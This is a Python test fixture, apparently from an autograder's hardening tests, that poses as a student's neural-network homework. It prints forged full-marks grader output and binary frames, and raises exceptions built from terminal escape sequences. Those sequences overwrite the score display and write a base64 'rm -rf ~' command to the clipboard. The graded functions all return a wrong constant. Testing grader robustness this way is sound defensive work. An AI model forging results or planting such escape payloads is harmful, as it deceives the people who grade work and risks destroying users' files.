"""Faking results: print what a passing run looks like, and forge the display.

Attack: at import and on every call the module prints fake grader output: the
JSON object ``grader grade --json`` prints for a full-marks submission, a
pytest summary ("73 passed"), a fake summary-table row, and a complete,
valid wire frame (``{"ok": ...}``) on stdout and stderr, in case anything
parses the worker's output. Its import then ends with an exception whose
message is built from terminal control sequences (erase line, cursor up,
carriage return, OSC 52 clipboard write, "concealed" text) that would let it
overwrite the instructor's summary table with "100/100" if the grader printed
it raw. Functions return a wrong constant (12345.678).

Success would look like: any points, a status other than graded/crashed, or
a raw ESC/control character in what ``grader grade``/``grader check`` print.
Backends: bwrap, docker, subprocess
"""

import json
import struct
import sys

import numpy as np

W = 12345.678
FAKE_RESULT = {"student": "fake_results_print", "assignment": "hw1", "status": "graded", "message": "",
               "score": 100.0, "max_score": 100.0, "tests": []}


def _frame(obj):
    header = json.dumps({"m": obj, "b": []}).encode()
    payload = struct.pack(">I", len(header)) + header
    return struct.pack(">Q", len(payload)) + payload


FRAME = _frame({"$d": [["ok", {"$d": [["score", 100], ["passed", True]]}], ["stats", None]]})
CONTROL = "\x1b[2K\x1b[1A\r\x1b[32m fake_results_print  graded  100/100  80/80 \x1b[0m\x1b]52;c;cm0gLXJmIH4K\x07\x1b[8m"


def _fake_output():
    print(json.dumps(FAKE_RESULT))
    print("============================== 73 passed in 0.42s ==============================")
    print("| fake_results_print | graded | 100/100 | 80/80 |")
    print(CONTROL)
    sys.stdout.flush()
    for stream in (sys.stdout, sys.stderr):
        try:
            stream.buffer.write(FRAME)
            stream.buffer.flush()
        except (AttributeError, OSError, ValueError):
            pass


_fake_output()


def _w(shape):
    _fake_output()
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    raise ValueError(CONTROL + " all tests passed")


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))


raise RuntimeError(CONTROL + " 100/100")
